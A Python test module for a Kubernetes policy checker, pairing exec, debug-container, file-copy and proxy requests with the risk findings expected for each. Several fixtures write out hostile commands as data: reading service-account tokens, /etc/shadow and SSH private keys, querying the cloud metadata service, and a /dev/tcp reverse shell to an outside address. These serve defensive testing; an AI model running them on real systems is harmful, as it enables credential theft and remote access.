"""Family `interactive`: what a command line says, debugging, proxies."""

from typing import Any

from interlock.core.types import JsonObject
from tests.core.catalogue_cases.backdoors import change
from tests.core.catalogue_cases.case import Case
from tests.core.catalogue_cases.interactive import connect
from tests.core.catalogue_cases.workload import create, pod
from tests.support.policies import request

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
SECRETS = "exec in pod web-0 in shop that names"
NETWORK = "exec in pod web-0 in shop that"


def run(*command: str, **options: Any) -> Any:
    """An exec of a command."""
    return connect("exec", command=list(command), **options)


def debugged(*containers: JsonObject) -> JsonObject:
    """A running pod with ephemeral containers."""
    return {"spec": {"containers": [{"name": "app"}], "ephemeralContainers": list(containers)}}


def shell(text: str) -> Any:
    """An exec of a line of shell."""
    return run("sh", "-c", text)


SESSIONS: dict[str, Case] = {
    "a token": (
        "exec-credentials",
        run("cat", TOKEN),
        [f"Critical, reaches shop: {SECRETS} ServiceAccount tokens"],
    ),
    "several credentials in one line": (
        "exec-credentials",
        shell("cat /etc/shadow /proc/1/environ ~/.ssh/id_rsa"),
        [f"Critical, reaches shop: {SECRETS} password files, environments of processes, private keys"],
    ),
    "a command line too long to look through": (
        "exec-credentials",
        shell("#" * 70_000),
        [f"Critical, reaches shop: {SECRETS} holds more than can be looked through (65536 characters)"],
    ),
    "not what only sounds like it": ("exec-credentials", run("jq", ".key", "secrets.md"), []),
    "the metadata service": (
        "exec-network",
        run("curl", "-s", "http://169.254.169.254/latest/meta-data/"),
        [
            f"Critical, reaches shop: {NETWORK} asks the cloud's metadata service and fetches from elsewhere",
        ],
    ),
    "a shell to elsewhere": (
        "exec-network",
        shell("sh -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        [f"Critical, reaches shop: {NETWORK} opens a shell elsewhere"],
    ),
    "a package": (
        "exec-network",
        shell("apt-get -y install nmap"),
        [f"Critical, reaches shop: {NETWORK} installs packages"],
    ),
    "not a dry list of packages": ("exec-network", shell("apt-get update --print-uris; npm ls"), []),
    "a shell": (
        "exec-shell",
        run("/bin/bash", "-l", stdin=True, tty=True),
        ["High, reaches shop: open a shell in pod web-0 in shop, its default container"],
    ),
    "a shell behind other programs": (
        "exec-shell",
        run("/usr/bin/env", "-i", "A=b", "timeout", "9", "busybox", "sh", stdin=True, container="app"),
        ["High, reaches shop: open a shell in pod web-0 in shop, container app"],
    ),
    "a shell where the cluster itself runs": (
        "exec-shell",
        connect("exec", "kube-system", command=["sh"], tty=True, container="dns"),
        ["Critical, reaches kube-system: open a shell in pod web-0 in kube-system, container dns"],
    ),
    "not a shell with a command": ("exec-shell", run("sh", "-ec", "date", stdin=True), []),
    "not a shell without input": ("exec-shell", run("sh"), []),
    "not a program that reads": ("exec-shell", run("psql", stdin=True), []),
    "kubectl cp out of a pod": (
        "copy-files",
        run("tar", "cf", "-", "/data", container="app"),
        ["High, reaches shop: copy files out of pod web-0 in shop, container app"],
    ),
    "kubectl cp into a pod": (
        "copy-files",
        run("tar", "-xmf", "-", "-C", "/app", stdin=True, container="app"),
        ["High, reaches shop: copy files into pod web-0 in shop, container app"],
    ),
    "not an archive that stays": ("copy-files", run("tar", "czf", "/data/backup.tgz", "/data"), []),
    "a container into a running pod": (
        "debug-container",
        change(
            "pods/ephemeralcontainers",
            debugged(),
            debugged({"name": "debugger", "image": "busybox"}),
            kind="Pod",
            name="web-0",
        ),
        ["High, reaches shop: put container debugger into running pod web-0 in shop"],
    ),
    "a privileged one that sees another's processes": (
        "debug-container",
        change(
            "pods/ephemeralcontainers",
            debugged({"name": "old"}),
            debugged(
                {"name": "old"},
                {"name": "d", "targetContainerName": "app", "securityContext": {"privileged": True}},
            ),
            kind="Pod",
            name="web-0",
        ),
        [
            (
                "Critical, reaches shop: put container d into running pod web-0 in shop, with privileged container d, "
                "the processes of container app"
            )
        ],
    ),
    "not one that was there": (
        "debug-container",
        change("pods/ephemeralcontainers", debugged({"name": "old"}), debugged({"name": "old"}), kind="Pod"),
        [],
    ),
    "kubectl debug node": (
        "debug-node",
        create("pods", pod(hostPID=True, volumes=[{"name": "host-root", "hostPath": {"path": "/"}}]), kind="Pod"),
        ["Critical, reaches shop: create Pod web in shop with processes and root directory of its node"],
    ),
    "not the processes alone": ("debug-node", create("pods", pod(hostPID=True), kind="Pod"), []),
    "a service": (
        "proxy",
        request("CONNECT", "services/proxy", name="http:db:80", new={"path": "/"}),
        ["Medium, reaches shop: speak to service http:db:80 in shop through the API server"],
    ),
    "a pod of the cluster itself": (
        "proxy",
        connect("proxy", "kube-system", path="/"),
        ["High, reaches kube-system: speak to pod web-0 in kube-system through the API server"],
    ),
    "not a tunnel": ("proxy", connect("portforward"), []),
    "a kubelet": (
        "node-proxy",
        request("CONNECT", "nodes/proxy", name="worker-7", namespace="", new={"path": "/run/prod/db-0/app"}),
        [
            "Critical, reaches all: speak to the kubelet of node worker-7, which runs commands in any of its pods",
        ],
    ),
    "not another proxy": ("node-proxy", connect("proxy"), []),
}
